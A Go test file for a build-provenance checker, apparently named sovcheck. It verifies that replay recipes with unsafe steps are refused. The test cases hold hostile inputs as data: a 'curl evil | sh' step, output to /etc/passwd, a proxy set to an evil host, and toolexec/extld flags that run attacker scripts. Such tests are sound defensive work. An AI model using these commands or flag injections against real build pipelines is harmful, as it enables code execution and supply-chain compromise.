package rebuild

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/sovcheck/sovcheck/internal/reason"
	"github.com/sovcheck/sovcheck/internal/vocab"
)

func readTestdata(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func envelopeJSON(t testing.TB, payloadType string, payload []byte) []byte {
	t.Helper()
	b, err := json.Marshal(map[string]any{
		"payloadType": payloadType,
		"payload":     base64.StdEncoding.EncodeToString(payload),
		"signatures":  []map[string]string{{"keyid": "", "sig": "c2ln"}},
	})
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func bundleJSON(t testing.TB, payloadType string, payload []byte) []byte {
	t.Helper()
	b, err := json.Marshal(map[string]any{
		"mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json",
		"dsseEnvelope": map[string]any{
			"payloadType": payloadType,
			"payload":     base64.StdEncoding.EncodeToString(payload),
			"signatures":  []map[string]string{{"keyid": "", "sig": "c2ln"}},
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestReadRecipesGoBuilder(t *testing.T) {
	recs, err := ReadRecipes(bytes.NewReader(readTestdata(t, "gobuilder.intoto.json")))
	if err != nil {
		t.Fatal(err)
	}
	want := &Recipe{
		BuildType: vocab.BuildTypeGoBuilder,
		Source:    Source{URI: "https://github.com/example/tool", Ref: "refs/tags/v1.2.3", Commit: strings.Repeat("a", 40)},
		Toolchain: "go1.22.5",
		Steps: []Step{
			{Command: []string{"/opt/hostedtoolcache/go/1.22.5/x64/bin/go", "mod", "vendor"}},
			{Command: []string{"/opt/hostedtoolcache/go/1.22.5/x64/bin/go", "build", "-mod=vendor", "-trimpath", "-tags=netgo",
				"-ldflags=-X main.version=v1.2.3 -X 'main.commit=aaaa'", "-o", "tool-linux-amd64"},
				Dir: "cmd/tool", Env: []string{"GOOS=linux", "GOARCH=amd64", "GO111MODULE=on", "CGO_ENABLED=0"}},
		},
		Output:      "cmd/tool/tool-linux-amd64",
		Subjects:    []Subject{{Name: "tool-linux-amd64", SHA256: strings.Repeat("0", 63) + "1"}},
		CheckoutDir: "/home/runner/work/tool/tool/__PROJECT_CHECKOUT_DIR__",
		GOROOT:      "/opt/hostedtoolcache/go/1.22.5/x64",
	}
	if len(recs) != 1 || !reflect.DeepEqual(recs[0], want) {
		t.Fatalf("recipe =\n%+v\nwant\n%+v", recs[0], want)
	}
	if got := ldflagsXSymbols(recs[0]); !reflect.DeepEqual(got, []string{"main.commit", "main.version"}) {
		t.Errorf("-X symbols = %q", got)
	}
}

func TestReadRecipesSovcheck(t *testing.T) {
	recs, err := ReadRecipes(bytes.NewReader(readTestdata(t, "sovcheck-recipe.intoto.json")))
	if err != nil {
		t.Fatal(err)
	}
	r := recs[0]
	if r.BuildType != vocab.BuildTypeSovcheckGo || r.Toolchain != "go1.26.8" || r.Output != "bin/tool" ||
		r.Source.URI != "https://example.com/tool" || r.CheckoutDir != "/src/tool" || len(r.Steps) != 1 {
		t.Fatalf("recipe = %+v", r)
	}
}

// TestReadRecipesInterop reads real provenance published by the SLSA Go
// builder, when the shared interop files are present.
func TestReadRecipesInterop(t *testing.T) {
	path := filepath.Join("..", "..", "shared", "interop", "go-builder-v2.1.0-push-v14.sigstore.json")
	data, err := os.ReadFile(path)
	if err != nil {
		t.Skipf("interop data not available (%v); it lives in ../shared/interop of the checkout", err)
	}
	recs, err := ReadRecipes(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	r := recs[0]
	gobin := "/opt/hostedtoolcache/go/1.21.13/x64/bin/go"
	checks := []struct{ what, got, want string }{
		{"toolchain", r.Toolchain, "go1.21.13"},
		{"source", r.Source.URI, "https://github.com/slsa-framework/example-package"},
		{"ref", r.Source.Ref, "refs/tags/v14"},
		{"commit", r.Source.Commit, "4d329c75e7ec1725f7c9ce917a8799d408d06be3"},
		{"output", r.Output, "gha_go-binary-linux-amd64-v14"},
		{"checkout", r.CheckoutDir, "/home/runner/work/example-package/example-package/__PROJECT_CHECKOUT_DIR__"},
		{"goroot", r.GOROOT, "/opt/hostedtoolcache/go/1.21.13/x64"},
		{"subject", r.Subjects[0].SHA256, "f6ab7ad0c7549b5a4942c3b0690519d791c28c4c0f8b286208cb40da3322a066"},
		{"step 1", strings.Join(r.Steps[0].Command, " "), gobin + " mod vendor"},
		{"step 2", strings.Join(r.Steps[1].Command, " "), gobin + " build -mod=vendor -trimpath -tags=netgo -o gha_go-binary-linux-amd64-v14"},
		{"step 2 env", strings.Join(r.Steps[1].Env, " "), "GOOS=linux GOARCH=amd64 GO111MODULE=on CGO_ENABLED=0"},
	}
	for _, c := range checks {
		if c.got != c.want {
			t.Errorf("%s = %q, want %q", c.what, c.got, c.want)
		}
	}
	rec, subj, err := SelectRecipe(recs, "F6AB7AD0C7549B5A4942C3B0690519D791C28C4C0F8B286208CB40DA3322A066")
	if err != nil || rec != r || subj.Name != "gha_go-binary-linux-amd64-v14" {
		t.Errorf("SelectRecipe = %v, %+v, %v", rec, subj, err)
	}
}

// TestReadRecipesForms reads one statement in every wrapping sovcheck
// accepts.
func TestReadRecipesForms(t *testing.T) {
	stmt := readTestdata(t, "gobuilder.intoto.json")
	want, err := ReadRecipes(bytes.NewReader(stmt))
	if err != nil {
		t.Fatal(err)
	}
	var compact bytes.Buffer
	if err := json.Compact(&compact, stmt); err != nil {
		t.Fatal(err)
	}
	other := []byte(`{"_type":"https://in-toto.io/Statement/v1","predicateType":"https://cyclonedx.org/bom","subject":[{"name":"x","digest":{"sha256":"00"}}],"predicate":{}}`)
	forms := map[string][]byte{
		"envelope":              envelopeJSON(t, vocab.InTotoPayloadType, stmt),
		"bundle":                bundleJSON(t, vocab.InTotoPayloadType, stmt),
		"jsonl with other kind": append(append(envelopeJSON(t, vocab.InTotoPayloadType, other), '\n'), envelopeJSON(t, vocab.InTotoPayloadType, compact.Bytes())...),
		"url-safe base64": []byte(strings.Replace(string(envelopeJSON(t, vocab.InTotoPayloadType, stmt)),
			base64.StdEncoding.EncodeToString(stmt), base64.URLEncoding.EncodeToString(stmt), 1)),
	}
	for name, doc := range forms {
		t.Run(name, func(t *testing.T) {
			got, err := ReadRecipes(bytes.NewReader(doc))
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(got, want) {
				t.Fatalf("recipes = %+v, want %+v", got, want)
			}
		})
	}
}

// mutate returns the testdata Go builder statement after f edited it.
func mutate(t *testing.T, f func(st map[string]any, pred map[string]any, steps []any)) []byte {
	t.Helper()
	var st map[string]any
	if err := json.Unmarshal(readTestdata(t, "gobuilder.intoto.json"), &st); err != nil {
		t.Fatal(err)
	}
	pred := st["predicate"].(map[string]any)
	steps := pred["buildConfig"].(map[string]any)["steps"].([]any)
	f(st, pred, steps)
	b, err := json.Marshal(st)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func step(steps []any, i int) map[string]any { return steps[i].(map[string]any) }

func TestReadRecipesRefused(t *testing.T) {
	gobin := "/opt/hostedtoolcache/go/1.22.5/x64/bin/go"
	build := func(args ...string) func(map[string]any, map[string]any, []any) {
		return func(_, _ map[string]any, steps []any) {
			step(steps, 1)["command"] = append([]any{gobin}, toAny(args)...)
		}
	}
	stmt := readTestdata(t, "gobuilder.intoto.json")
	cases := map[string]struct {
		doc  []byte
		code string
	}{
		"empty":               {[]byte("  \n"), reason.ProvenanceMalformed},
		"not json":            {[]byte("{nope"), reason.ProvenanceMalformed},
		"not a statement":     {[]byte(`{"hello":"world"}`), reason.ProvenanceMalformed},
		"jsonl with garbage":  {append(append(bytes.Clone(stmt[:0]), `{"_type":"x"}`+"\n"...), "{garbage\n"...), reason.ProvenanceMalformed},
		"payload type":        {envelopeJSON(t, "text/plain", stmt), reason.StatementMalformed},
		"bad base64":          {[]byte(`{"payloadType":"application/vnd.in-toto+json","payload":"%%%"}`), reason.ProvenanceMalformed},
		"bundle without dsse": {[]byte(`{"mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json","messageSignature":{"messageDigest":{"algorithm":"SHA2_256","digest":"AAAA"},"signature":"AAAA"}}`), reason.BundleMalformed},
		"bundle malformed":    {[]byte(`{"mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json","dsseEnvelope":7}`), reason.BundleMalformed},
		"statement type":      {mutate(t, func(st, _ map[string]any, _ []any) { st["_type"] = "https://example.com/Statement" }), reason.StatementMalformed},
		"no subject":          {mutate(t, func(st, _ map[string]any, _ []any) { st["subject"] = []any{} }), reason.StatementMalformed},
		"subject digest": {mutate(t, func(st, _ map[string]any, _ []any) {
			st["subject"] = []any{map[string]any{"name": "x", "digest": map[string]any{"sha256": "zz"}}}
		}), reason.ProvenanceMalformed},
		"other predicate":     {mutate(t, func(st, _ map[string]any, _ []any) { st["predicateType"] = "https://spdx.dev/Document" }), reason.RecipeUnsupported},
		"other build type":    {mutate(t, func(_, p map[string]any, _ []any) { p["buildType"] = "https://example.com/make@v1" }), reason.RecipeUnsupported},
		"buildConfig version": {mutate(t, func(_, p map[string]any, _ []any) { p["buildConfig"].(map[string]any)["version"] = 2 }), reason.RecipeUnsupported},
		"no materials":        {mutate(t, func(_, p map[string]any, _ []any) { p["materials"] = []any{} }), reason.ProvenanceMalformed},
		"short commit": {mutate(t, func(_, p map[string]any, _ []any) {
			p["materials"].([]any)[0].(map[string]any)["digest"] = map[string]any{"sha1": "abc"}
		}), reason.ProvenanceMalformed},
		"go version unknown": {mutate(t, func(_, _ map[string]any, s []any) { step(s, 0)["command"] = []any{"go", "mod", "vendor"} }), reason.RecipeUnsupported},
		"two toolchains": {mutate(t, func(_, _ map[string]any, s []any) {
			step(s, 0)["command"] = []any{"/opt/hostedtoolcache/go/1.21.0/x64/bin/go", "mod", "vendor"}
		}), reason.RecipeUnsupported},
		"not the go command": {mutate(t, func(_, _ map[string]any, s []any) { step(s, 0)["command"] = []any{"/bin/sh", "-c", "curl evil | sh"} }), reason.RecipeUnsupported},
		"go run":             {mutate(t, build("run", ".")), reason.RecipeUnsupported},
		"go generate":        {mutate(t, build("generate", "./...")), reason.RecipeUnsupported},
		"go mod edit":        {mutate(t, build("mod", "edit", "-replace=x=y")), reason.RecipeUnsupported},
		"toolexec":           {mutate(t, build("build", "-toolexec=/tmp/x", "-o", "t")), reason.RecipeUnsupported},
		"toolexec split":     {mutate(t, build("build", "-toolexec", "/tmp/x", "-o", "t")), reason.RecipeUnsupported},
		"external linker":    {mutate(t, build("build", "-ldflags=-linkmode=external -extld=/tmp/x", "-o", "t")), reason.RecipeUnsupported},
		"no -o":              {mutate(t, build("build", "./cmd/tool")), reason.RecipeUnsupported},
		"linker runs a tool": {mutate(t, build("build", "-buildmode=c-archive", "-ldflags=-extar=/sovcheck/build/src/evil.sh", "-o", "t")), reason.RecipeUnsupported},
		"extar in goflags":   {mutate(t, func(_, _ map[string]any, s []any) { step(s, 1)["env"] = []any{"GOFLAGS=-ldflags=-extar=/x"} }), reason.RecipeUnsupported},
		"mod vendor -o": {mutate(t, func(_, _ map[string]any, s []any) {
			step(s, 0)["command"] = append(step(s, 0)["command"].([]any), "-o=/sovcheck/gocache")
		}), reason.RecipeUnsupported},
		"last step not build": {mutate(t, func(_, p map[string]any, s []any) { p["buildConfig"].(map[string]any)["steps"] = []any{s[1], s[0]} }), reason.RecipeUnsupported},
		"absolute -o":         {mutate(t, build("build", "-o", "/etc/passwd")), reason.RecipeUnsupported},
		"-o escapes":          {mutate(t, build("build", "-o", "../../../x")), reason.RecipeUnsupported},
		"env not allowed":     {mutate(t, func(_, _ map[string]any, s []any) { step(s, 1)["env"] = []any{"CC=/tmp/evil"} }), reason.RecipeUnsupported},
		"env sets proxy":      {mutate(t, func(_, _ map[string]any, s []any) { step(s, 1)["env"] = []any{"GOPROXY=https://evil"} }), reason.RecipeUnsupported},
		"goflags toolexec":    {mutate(t, func(_, _ map[string]any, s []any) { step(s, 1)["env"] = []any{"GOFLAGS=-toolexec=/x"} }), reason.RecipeUnsupported},
		"env malformed":       {mutate(t, func(_, _ map[string]any, s []any) { step(s, 1)["env"] = []any{"NOEQUALS"} }), reason.ProvenanceMalformed},
		"workingDir outside":  {mutate(t, func(_, _ map[string]any, s []any) { step(s, 1)["workingDir"] = "/etc" }), reason.ProvenanceMalformed},
		"workingDir relative": {mutate(t, func(_, _ map[string]any, s []any) { step(s, 0)["workingDir"] = "src" }), reason.ProvenanceMalformed},
		"too many steps": {mutate(t, func(_, p map[string]any, s []any) {
			p["buildConfig"].(map[string]any)["steps"] = repeat(s[0], MaxSteps+1)
		}), reason.InputTooLarge},
		"no steps":          {mutate(t, func(_, p map[string]any, _ []any) { p["buildConfig"].(map[string]any)["steps"] = []any{} }), reason.ProvenanceMalformed},
		"argument with NUL": {mutate(t, build("build", "-o", "t\x00x")), reason.ProvenanceMalformed},
		"too large":         {bytes.Repeat([]byte(" "), MaxProvenanceBytes+1), reason.InputTooLarge},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			recs, err := ReadRecipes(bytes.NewReader(tc.doc))
			if tc.code == reason.RecipeUnsupported && name != "other predicate" {
				// SLSA provenance sovcheck will not replay: a refused
				// recipe, which names the subjects it would SKIP.
				if err != nil {
					t.Fatalf("error %v, want a refused recipe", err)
				}
				if len(recs) != 1 || recs[0].Refused == nil || len(recs[0].Subjects) == 0 {
					t.Fatalf("got %+v, want one refused recipe with subjects", recs)
				}
				if re := recs[0].Refused; re.Code != reason.RecipeUnsupported || re.Hint == "" || re.Msg == "" {
					t.Fatalf("refusal %+v, want code %s with message and hint", re, reason.RecipeUnsupported)
				}
				return
			}
			if err == nil {
				t.Fatalf("accepted: %+v", recs[0])
			}
			if recs != nil {
				t.Error("error with a non-nil result")
			}
			if got := reason.CodeOf(err, ""); got != tc.code {
				t.Fatalf("code = %s, want %s (%v)", got, tc.code, err)
			}
			var re *reason.Error
			if errors.As(err, &re) && re.Hint == "" {
				t.Errorf("no hint: %v", err)
			}
		})
	}
}

func toAny(ss []string) []any {
	out := make([]any, len(ss))
	for i, s := range ss {
		out[i] = s
	}
	return out
}

func repeat(v any, n int) []any {
	out := make([]any, n)
	for i := range out {
		out[i] = v
	}
	return out
}

func TestToolchainFromGoPath(t *testing.T) {
	for path, want := range map[string]string{
		"/opt/hostedtoolcache/go/1.21.13/x64/bin/go":      "go1.21.13",
		"/opt/hostedtoolcache/go/1.22.0/x64/bin/go":       "go1.22.0",
		"/opt/hostedtoolcache/go/1.20.0/x64/bin/go":       "go1.20",
		"/opt/hostedtoolcache/go/1.19.13/arm64/bin/go":    "go1.19.13",
		"/opt/hostedtoolcache/go/1.23.0rc2/x64/bin/go":    "go1.23.0rc2",
		"C:/hostedtoolcache/windows/go/1.21.5/x64/bin/go": "go1.21.5",
		"go":                        "",
		"/usr/local/go/bin/go":      "",
		"/opt/go/latest/x64/bin/go": "",
	} {
		got, ok := ToolchainFromGoPath(path)
		if got != want || ok != (want != "") {
			t.Errorf("ToolchainFromGoPath(%q) = %q, %v; want %q", path, got, ok, want)
		}
	}
}

func TestSelectRecipeMismatch(t *testing.T) {
	recs, err := ReadRecipes(bytes.NewReader(readTestdata(t, "gobuilder.intoto.json")))
	if err != nil {
		t.Fatal(err)
	}
	_, _, err = SelectRecipe(recs, strings.Repeat("f", 64))
	var re *reason.Error
	if !errors.As(err, &re) || re.Code != reason.SubjectMismatch || !strings.Contains(re.Want, "tool-linux-amd64") {
		t.Fatalf("err = %v, want %s naming the subjects", err, reason.SubjectMismatch)
	}
}

// TestGoFlags: the go command flags a recipe may give, and the ones that
// would let it run a program of its choosing, write outside the checkout
// or build something other than a program.
func TestGoFlags(t *testing.T) {
	for _, args := range [][]string{
		{"go", "build", "-trimpath", "-ldflags=-s -w -X main.version=1.0 -buildid=", "-o", "t", "./cmd/t"},
		{"go", "build", "-ldflags", "-X 'main.msg=two words' -X=main.v=1", "-o", "t"},
		{"go", "build", "-ldflags=all=-s -w", "-gcflags=all=-N -l", "-buildmode=pie", "-tags=netgo,osusergo", "-o", "t"},
		{"go", "build", "-ldflags=-linkmode=external -extldflags=-static", "-mod=vendor", "-o", "t"},
		{"go", "build", "-ldflags", "-linkmode external -extldflags '-static -Wl,--build-id=none'", "-o", "t"},
		{"go", "mod", "vendor"},
		{"go", "mod", "download", "-x"},
		{"go", "build", "-buildvcs=false", "-trimpath=true", "-p", "2", "-ldflags=-compressdwarf=false", "-o", "t"},
		{"go", "build", "-ldflags=-X=main.a='x -s", "-o", "t"}, // the quote is an ordinary character mid-field
	} {
		if err := checkGoArgs(args); err != nil {
			t.Errorf("%q refused: %v", args, err)
		}
	}
	for _, args := range [][]string{
		{"go", "build", "-ldflags=-extld=/tmp/x", "-o", "t"},
		{"go", "build", "-ldflags", "-extar /tmp/x", "-o", "t"},
		{"go", "build", "-ldflags=-linkmode=external -extldflags=-B/tmp/evil", "-o", "t"},
		{"go", "build", "-ldflags=-linkmode=external -extldflags='-fuse-ld=/tmp/ld'", "-o", "t"},
		{"go", "build", "-ldflags=-r /tmp", "-o", "t"},
		{"go", "build", "-ldflags=all=-extld=/tmp/x", "-o", "t"},
		{"go", "build", "-gcflags=all=-cpuprofile=/sovcheck/gocache/x", "-o", "t"},
		{"go", "build", "-asmflags", "-debug -o=/x", "-o", "t"},
		{"go", "build", "-buildmode=c-shared", "-o", "t"},
		{"go", "build", "-buildmode", "plugin", "-o", "t"},
		{"go", "build", "-C", "/tmp", "-o", "t"},
		{"go", "build", "-modfile=/tmp/go.mod", "-o", "t"},
		{"go", "build", "-overlay", "/tmp/o.json", "-o", "t"},
		{"go", "build", "-pkgdir=/sovcheck/gocache", "-o", "t"},
		{"go", "build", "--toolexec=/x", "-o", "t"},
		{"go", "install", "-o", "t"},
		{"go", "mod", "vendor", "-o", "/sovcheck/gocache"},
		{"go", "build", "-ldflags"},
		// Review findings: a boolean linker flag taking the next field,
		// quotes that the go command reads differently, unknown flags
		// that write files, -o twice or elsewhere, GOFLAGS quoting.
		{"go", "build", "-ldflags=-linkmode=external -compressdwarf -extld=/sovcheck/build/src/extld.sh", "-o", "t"},
		{"go", "build", "-ldflags=-X=main.a='x -extld=/evil -X=main.b='y", "-o", "t"},
		{"go", "build", "-ldflags=-X 'main.a=x'-extld=/evil", "-o", "t"},
		{"go", "build", "-gcflags=-trimpath='a -asmhdr=/any/path -trimpath='b", "-o", "t"},
		{"go", "build", "-asmflags=-trimpath='a -o=/x -trimpath='b", "-o", "t"},
		{"go", "build", "-debug-trace", "/tmp/t", "-toolexec=/src/evil.sh", "-o", "out", "."},
		{"go", "build", "-debug-actiongraph=/sovcheck/gocache/x", "-o", "t"},
		{"go", "build", "-o", "out", "-o", "/sovcheck/gocache/zz"},
		{"go", "build", "-o=../../x"},
		{"go", "build", "-o", "bin/"},
		{"go", "build", "-pgo=/sovcheck/gocache/x", "-o", "t"},
		{"go", "mod", "download", "-reuse=/x"},
		{"go", "env", "-w", "GOFLAGS=-toolexec=/x"},
		{"go", "list", "-f", "{{.Dir}}"},
		{"go", "install", "./..."},
		{"go", "mod"},
	} {
		if err := checkGoArgs(args); err == nil {
			t.Errorf("%q accepted", args)
		}
	}
}

// TestGOFLAGS: GOFLAGS is split as the go command splits it, with the same
// allowlist.
func TestGOFLAGS(t *testing.T) {
	for _, v := range []string{"-trimpath -mod=vendor", "-ldflags=-s", "'-tags=netgo osusergo'", "-buildvcs=false"} {
		if err := checkGOFLAGS(v); err != nil {
			t.Errorf("GOFLAGS=%s refused: %v", v, err)
		}
	}
	for _, v := range []string{`"-toolexec=/sovcheck/build/src/evil.sh"`, "-toolexec=/x", "-o=x", "-overlay=/x", "-ldflags=-extld=/x",
		"-modfile=/x", "-linkshared", "'-gcflags=-cpuprofile=/x'", "-mod", "toolexec", "-trimpath=yes", `"-ldflags`} {
		if err := checkGOFLAGS(v); err == nil {
			t.Errorf("GOFLAGS=%s accepted", v)
		}
	}
}

// TestGoSplit: fields as the go command reads -ldflags and GOFLAGS.
func TestGoSplit(t *testing.T) {
	for in, want := range map[string][]string{
		"-s -w":                  {"-s", "-w"},
		"-X 'main.a=x y' -s":     {"-X", "main.a=x y", "-s"},
		`-X="main.a=x y"`:        {`-X="main.a=x`, `y"`},
		"-X=main.a='x -extld=/e": {"-X=main.a='x", "-extld=/e"},
		"\t'a''b' \"c\"\n":       {"a", "b", "c"},
		"":                       nil,
	} {
		got, err := goSplit(in)
		if err != nil || !slices.Equal(got, want) {
			t.Errorf("goSplit(%q) = %q, %v; want %q", in, got, err, want)
		}
	}
	if _, err := goSplit("-X 'unterminated"); err == nil {
		t.Error("an unterminated quote was accepted")
	}
}

// provenanceLines returns n Sigstore bundle lines of Go builder provenance,
// each at least size bytes long (real ones are 10-25 KiB: the predicate
// records the whole GitHub event), attesting subjects ...01, ...02, ...
func provenanceLines(t testing.TB, n, size int) []byte {
	t.Helper()
	var lines [][]byte
	for i := range n {
		var st map[string]any
		if err := json.Unmarshal(readTestdata(t, "gobuilder.intoto.json"), &st); err != nil {
			t.Fatal(err)
		}
		st["subject"] = []any{map[string]any{"name": fmt.Sprintf("tool-%d", i+1), "digest": map[string]any{"sha256": fmt.Sprintf("%064x", i+1)}}}
		pred := st["predicate"].(map[string]any)
		inv, _ := pred["invocation"].(map[string]any)
		if inv == nil {
			inv = map[string]any{}
			pred["invocation"] = inv
		}
		inv["environment"] = map[string]any{"github_event_payload": map[string]any{"pad": strings.Repeat(string(rune('a'+i%26)), size*3/4)}}
		stmt, err := json.Marshal(st)
		if err != nil {
			t.Fatal(err)
		}
		line := bundleJSON(t, vocab.InTotoPayloadType, stmt)
		if len(line) < size {
			t.Fatalf("line %d has %d bytes, want at least %d", i+1, len(line), size)
		}
		lines = append(lines, line)
	}
	return append(bytes.Join(lines, []byte("\n")), '\n')
}

// Real Go builder provenance files hold several bundles of 10-25 KiB, one
// per line: each line is read on its own.
func TestReadRecipesJSONLinesRealSize(t *testing.T) {
	for _, size := range []int{5 << 10, 12 << 10, 25 << 10} {
		data := provenanceLines(t, 4, size)
		recs, err := ReadRecipes(bytes.NewReader(data))
		if err != nil {
			t.Fatalf("lines of %d bytes: %v", size, err)
		}
		if len(recs) != 4 {
			t.Fatalf("lines of %d bytes: %d recipes, want 4", size, len(recs))
		}
		for i, r := range recs {
			if want := fmt.Sprintf("%064x", i+1); len(r.Subjects) != 1 || r.Subjects[0].SHA256 != want || r.Refused != nil {
				t.Fatalf("recipe %d: %+v, want subject %s", i+1, r, want)
			}
		}
	}
}

// Failure twins: a line over its limit, too many lines.
func TestReadRecipesJSONLinesLimits(t *testing.T) {
	long := append([]byte(`{"_type":"`), bytes.Repeat([]byte("a"), MaxProvenanceLineBytes)...)
	long = append(long, `"}`...)
	data := append(append([]byte("{}\n"), long...), '\n')
	_, err := ReadRecipes(bytes.NewReader(data))
	if got := reason.CodeOf(err, ""); got != reason.InputTooLarge || !strings.Contains(err.Error(), "provenance line 2 too large") {
		t.Fatalf("long line: %v (%s), want %s on line 2", err, got, reason.InputTooLarge)
	}
	many := bytes.Repeat([]byte("{}\n"), MaxProvenanceLines+1)
	if _, err := ReadRecipes(bytes.NewReader(many)); reason.CodeOf(err, "") != reason.InputTooLarge {
		t.Fatalf("too many lines: %v, want %s", err, reason.InputTooLarge)
	}
}

// The real bundles of the SLSA GitHub generator's Go builder, as one JSON
// Lines file: each line's recipe is read.
func TestReadRecipesInteropJSONLines(t *testing.T) {
	dir := filepath.Join("..", "..", "shared", "interop")
	var lines [][]byte
	for _, name := range []string{"go-builder-v2.1.0-push-v14.sigstore.json", "go-builder-v2.1.0-push-v13.0.30.sigstore.json"} {
		b, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Skipf("interop material absent: %v", err)
		}
		var compact bytes.Buffer
		if err := json.Compact(&compact, b); err != nil {
			t.Fatal(err)
		}
		lines = append(lines, compact.Bytes())
	}
	recs, err := ReadRecipes(bytes.NewReader(bytes.Join(lines, []byte("\n"))))
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 2 {
		t.Fatalf("%d recipes, want 2", len(recs))
	}
	for i, ref := range []string{"refs/tags/v14", "refs/tags/v13.0.30"} {
		if r := recs[i]; r.Refused != nil || r.Source.Ref != ref || r.Toolchain != "go1.21.13" {
			t.Fatalf("recipe %d: %+v (refused %v), want %s with go1.21.13", i+1, r, r.Refused, ref)
		}
	}
}

// The toolchain rule: go1.21.2 and later as recorded; go1.18 up to
// go1.21.1 only when every go build step sets CGO_ENABLED=0; older never.
func TestToolchainRule(t *testing.T) {
	cases := []struct {
		goVersion string // directory version of the hosted toolchain
		buildEnv  []any
		refused   string // "" when replayed
	}{
		{"1.18.10", []any{"CGO_ENABLED=0"}, ""},
		{"1.18.0", []any{"GOOS=linux", "CGO_ENABLED=0"}, ""},
		{"1.21.1", []any{"CGO_ENABLED=0"}, ""},
		{"1.21.2", nil, ""},
		{"1.22.5", []any{"CGO_ENABLED=1"}, ""},
		{"1.18.10", nil, "builds with cgo enabled"},
		{"1.20.14", []any{"CGO_ENABLED=1"}, "builds with cgo enabled"},
		{"1.21.1", []any{"CGO_ENABLED=0", "CGO_ENABLED=1"}, "builds with cgo enabled"},
		{"1.17.13", []any{"CGO_ENABLED=0"}, "sovcheck replays go1.18 and later"},
	}
	for _, tc := range cases {
		t.Run(fmt.Sprintf("go%s %v", tc.goVersion, tc.buildEnv), func(t *testing.T) {
			doc := mutate(t, func(_, _ map[string]any, s []any) {
				gobin := "/opt/hostedtoolcache/go/" + tc.goVersion + "/x64/bin/go"
				for i := range s {
					cmd := step(s, i)["command"].([]any)
					cmd[0] = gobin
				}
				step(s, 1)["env"] = tc.buildEnv
			})
			recs, err := ReadRecipes(bytes.NewReader(doc))
			if err != nil {
				t.Fatal(err)
			}
			r := recs[0]
			if tc.refused == "" {
				if r.Refused != nil {
					t.Fatalf("refused: %v", r.Refused)
				}
				return
			}
			if r.Refused == nil || r.Refused.Code != reason.RecipeUnsupported || !strings.Contains(r.Refused.Msg, tc.refused) {
				t.Fatalf("refusal %v, want %s containing %q", r.Refused, reason.RecipeUnsupported, tc.refused)
			}
		})
	}
}
